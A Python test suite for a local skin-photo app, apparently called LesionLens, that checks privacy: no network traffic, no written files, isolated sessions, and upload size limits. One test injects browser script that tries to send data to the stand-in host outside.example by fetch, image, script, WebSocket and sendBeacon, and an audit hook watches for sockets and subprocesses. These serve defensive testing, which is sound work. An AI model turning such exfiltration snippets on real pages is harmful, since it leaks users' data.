"""Nothing leaves the machine: seen from the browser, from the process, and from inside Python."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

import kit
import numpy as np
import psutil
import pytest
from PIL import Image

from lesionlens.app.engine import MAX_PHOTO_BYTES

if TYPE_CHECKING:
    from playwright.sync_api import Playwright

pytestmark = pytest.mark.app

OpenApp = Callable[..., kit.App]

#: Runs the command line with an ear at everything that Python connects, sends to or looks up.
LISTENING = """
import json, os, sys
log = open(os.environ["LESIONLENS_TEST_LOG"], "a", buffering=1)
def hear(event, arguments):
    if event in ("socket.connect", "socket.sendto", "socket.sendmsg", "socket.getaddrinfo",
                 "socket.gethostbyname", "urllib.Request", "subprocess.Popen", "os.system"):
        said = [str(value) for value in arguments[1 if event.startswith("socket.") else 0:]]
        if event in ("socket.getaddrinfo", "socket.gethostbyname"):
            said = [str(arguments[0])]
        log.write(json.dumps([event, said]) + chr(10))
sys.addaudithook(hear)
from lesionlens.cli.main import main
main()
"""


def visit(app: kit.App, photo: Path) -> None:
    """Walk through every part of the app: answer for a photo, look into all four places."""
    texts = app.texts
    judge(app, photo)
    app.wait_for_text(texts("result.title"))
    app.tap(texts("result.new_scan"))
    for place, words in (
        ("history", texts("history.n_scans", count=1)),
        ("learn", texts("learn.dermoscopy.title")),
        ("settings", texts("settings.language")),
        ("scan", texts("scan.invite")),
    ):
        app.tap(texts(f"common.tab_{place}"), role="tab")
        app.wait_for_text(words)


def judge(app: kit.App, photo: Path) -> None:
    """Choose a photo and have it checked."""
    app.upload(photo, app.texts("scan.choose"))
    app.tap(app.texts("crop.check"))


@contextmanager
def watched(pid: int) -> Iterator[set[str]]:
    """Yield the addresses that a process and its children connect to, as they appear."""
    found: set[str] = set()
    is_over = threading.Event()

    def watch() -> None:
        root = psutil.Process(pid)
        while not is_over.is_set():
            for process in [root, *root.children(recursive=True)]:
                for connection in process.net_connections(kind="inet"):
                    if connection.raddr:
                        found.add(connection.raddr.ip)
            is_over.wait(0.05)

    watching = threading.Thread(target=watch)
    watching.start()
    try:
        yield found
    finally:
        is_over.set()
        watching.join()


def test_a_whole_visit_asks_nobody_outside(
    playwright: Playwright, server: kit.Server, phantom_jpeg: Path
) -> None:
    with kit.recorder() as (proxy, asked), watched(server.process.pid) as connected:
        browser = kit.launch(playwright, *kit.through(proxy))
        try:
            app = kit.App.open(browser, server.url, calm=True)
            requested: list[str] = []
            app.page.on("request", lambda request: requested.append(request.url))
            visit(app, phantom_jpeg)
            with app.page.expect_request(lambda request: request.url.startswith(kit.REFUSED)):
                app.reload()
            app.wait_for_text(app.texts("common.tab_scan"))
            probe = app.page.context.new_page()  # the recorder does hear what goes out
            answer = probe.goto("http://outside.example/")
            assert answer is not None
            assert answer.status == 502
        finally:
            browser.close()
    assert "GET http://outside.example/" in asked
    assert [line for line in asked if "outside.example" not in line] == []
    assert connected == {"127.0.0.1"}
    own = (f"{server.url}/", f"blob:{server.url}/", "data:")
    outside = [url for url in requested if not url.startswith(own)]
    # Flet's client does try, at its start; the policy stops it before it leaves the browser.
    assert outside
    assert [url for url in outside if not url.startswith(kit.REFUSED)] == []


def test_the_policy_stops_a_page_that_would_send_something(open_app: OpenApp) -> None:
    app = open_app(consent=False, calm=True)
    tried = app.page.evaluate(
        """async () => {
          const blocked = [];
          let isAll;
          const all = new Promise((resolve) => { isAll = resolve; });
          document.addEventListener('securitypolicyviolation', (event) => {
            if (event.blockedURI.startsWith('https://cdn.jsdelivr.net/')) return; // Flet's own
            blocked.push(event.effectiveDirective);
            if (blocked.length === 6) isAll();
          });
          await fetch('https://outside.example/', {method: 'POST', body: 'x'}).catch(() => {});
          new Image().src = 'https://outside.example/?x';
          const script = document.createElement('script');
          script.src = 'https://outside.example/x.js';
          document.head.append(script);
          try { new WebSocket('wss://outside.example/'); } catch {}
          navigator.sendBeacon('https://outside.example/', 'x');
          const inline = document.createElement('script');
          inline.textContent = 'window.isTakenOver = true';
          document.head.append(inline);
          await Promise.race([all, new Promise((resolve) => setTimeout(resolve, 30000))]);
          await new Promise((resolve) => setTimeout(resolve, 100)); // for what is too much
          return blocked;
        }"""
    )
    app.problems.clear()  # the refusals above
    assert tried.count("connect-src") == 3
    assert tried.count("img-src") == 1
    assert tried.count("script-src-elem") == 2
    assert app.page.evaluate("window.isTakenOver") is None


def test_python_connects_to_nobody_and_writes_no_file(
    playwright: Playwright, phantom_jpeg: Path, tmp_path: Path
) -> None:
    log, home = tmp_path / "heard.jsonl", tmp_path / "home"
    home.mkdir()
    log.touch()
    places = dict.fromkeys(("HOME", "TMPDIR", "XDG_DATA_HOME", "XDG_CACHE_HOME"), str(home))
    server = kit.start_server(
        "--threads", "1", python=("-c", LISTENING), LESIONLENS_TEST_LOG=str(log), **places
    )
    try:
        browser = kit.launch(playwright)
        try:
            visit(kit.App.open(browser, server.url, calm=True), phantom_jpeg)
        finally:
            browser.close()
    finally:
        code, said = server.stop()
    assert code == 0, said
    heard = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    assert ["socket.getaddrinfo", ["127.0.0.1"]] in heard, "the ear heard not even the server"
    assert [event for event in heard if event != ["socket.getaddrinfo", ["127.0.0.1"]]] == []
    assert list(home.rglob("*")) == []


def test_two_browsers_see_nothing_of_each_other(open_app: OpenApp, phantom_jpeg: Path) -> None:
    one, other = open_app(calm=True), open_app(calm=True)
    texts = one.texts
    for app in (one, other):
        app.tap(texts("common.tab_history"), role="tab")
        app.wait_for_text(texts("history.empty_title"))
    one.tap(texts("common.tab_scan"), role="tab")
    visit(one, phantom_jpeg)
    one.tap(texts("common.tab_history"), role="tab")
    one.wait_for_text(texts("history.n_scans", count=1))
    other.tap(texts("common.tab_scan"), role="tab")
    other.tap(texts("common.tab_history"), role="tab")
    other.wait_for_text(texts("history.empty_title"))


def test_a_dropped_and_a_pasted_picture_are_taken_in(open_app: OpenApp, phantom_jpeg: Path) -> None:
    picture = phantom_jpeg.read_bytes()
    for kind in ("drop", "paste"):
        app = open_app(calm=True)
        assert app.drop("dragged.png", b"", kind="dragover")
        assert app.page.locator("#door").count() == 1
        assert app.drop("picture.jpg", picture, kind=kind)
        app.wait_for_text(app.texts("crop.check"))
        assert app.page.locator("#door").count() == (0 if kind == "drop" else 1)


def test_a_refused_camera_is_told_and_a_picture_can_be_chosen_instead(open_app: OpenApp) -> None:
    app = open_app(camera=False, calm=True)
    app.tap(app.texts("scan.start_camera"))
    app.wait_for_text(app.texts("scan.refused"))
    app.wait_for(app.texts("scan.choose"))


def test_a_picture_of_30_mb_is_taken_and_one_of_65_is_refused(
    open_app: OpenApp, tmp_path: Path
) -> None:
    noise = np.random.default_rng(0).integers(0, 256, (3200, 3200, 3), dtype=np.uint8)
    large, huge = tmp_path / "large.png", tmp_path / "huge.png"
    Image.fromarray(noise).save(large, compress_level=0)
    assert large.stat().st_size > 30_000_000
    with huge.open("wb") as file:
        file.truncate(MAX_PHOTO_BYTES + 1)
    app = open_app(calm=True)
    app.upload(huge, app.texts("scan.choose"))
    app.wait_for_text(app.texts.size(MAX_PHOTO_BYTES))  # at once: nothing was read
    app.upload(large, app.texts("scan.choose"))
    app.wait_for(app.texts("crop.check"))
